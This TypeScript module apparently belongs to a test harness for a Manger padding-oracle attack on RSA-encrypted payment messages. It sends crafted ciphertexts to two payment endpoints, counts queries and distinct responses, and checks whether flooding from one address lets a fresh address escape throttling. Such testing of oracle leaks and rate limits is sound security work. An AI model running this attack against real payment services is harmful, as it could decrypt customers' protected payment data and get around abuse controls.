import { type AttackResult, mangerAttack } from './manger-attack.ts';
import { responseText, type Target } from './oracle-target.ts';
import type { CompanyKey } from '../payments-to-send.ts';
import type { PayFunction } from '../read-web-pay-response.ts';
import { unreadableTexts } from './unreadable-texts.ts';

export type Asks = {
  questions: number;
  /** The number of blocks that really began with 0. */
  small: number;
  responses: Set<string>;
  result: AttackResult;
};

const functions: readonly PayFunction[] = ['/makPayment', '/webPay'];
const atOnce = 8;

/** The attack as far as it gets, then blocks of either kind in turn, then all other failures. */
export async function askAll(
  target: Target,
  key: CompanyKey,
  { maxAttack, chosen }: { maxAttack: number; chosen: number },
): Promise<Asks> {
  const responses = new Set<string>();
  let [questions, small] = [0, 0];
  const note = async (text: string, path: PayFunction) => {
    const response = responseText(await target.ask(text, path));
    questions += 1;
    responses.add(`${path}\n${response}`);
    return response;
  };
  const noteFactor = (factor: bigint, path: PayFunction) => {
    if (!target.isBig(factor)) small += 1;
    return note(target.textTimes(factor), path);
  };
  const ofBig = await noteFactor(target.factor(true), '/makPayment');
  const isBig = async (factor: bigint) => (await noteFactor(factor, '/makPayment')) === ofBig;
  const result = await mangerAttack(target.raw, isBig, maxAttack);

  const unreadable = await unreadableTexts(key, target.raw);
  const queue = [
    ...Array.from(
      { length: chosen },
      (_, index) => (path: PayFunction) => noteFactor(target.factor(index % 4 < 2), path),
    ),
    ...[...unreadable, ...unreadable].map((text) => (path: PayFunction) => note(text, path)),
  ].entries();
  const worker = async () => {
    for (const [index, ask] of queue) await ask(functions[index % 2] ?? '/webPay');
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
  return { questions, small, responses, result };
}

export type Throttled = {
  /** Questions from one address that are processed per second. */
  readonly perSecond: number;
  /** The number still waiting when a later address has all its responses. */
  readonly waiting: number;
};

/** The number that makes an address suspect, and that another may ask without becoming so. */
const suspectAfter = 60;
const cleanQuestions = 20;

/** An address that never stops asking, next to a new one. */
export async function throttle(target: Target, questions: number): Promise<Throttled> {
  const texts = (count: number) =>
    Array.from({ length: count }, () => target.textTimes(target.factor(true)));
  const [from, other] = [target.nextAddress(), target.nextAddress()];
  const askFromOne = (address: string, all: readonly string[]) =>
    all.map((text) => target.askFrom(address, text));
  await Promise.all(askFromOne(from, texts(suspectAfter)));
  const [many, few] = [texts(questions), texts(cleanQuestions)];
  const startedAt = performance.now();
  let waiting = questions;
  const sent = askFromOne(from, many).map((response) => response.then(() => (waiting -= 1)));
  await Promise.all(askFromOne(other, few));
  const left = waiting;
  await Promise.all(sent);
  return { perSecond: (questions * 1000) / (performance.now() - startedAt), waiting: left };
}
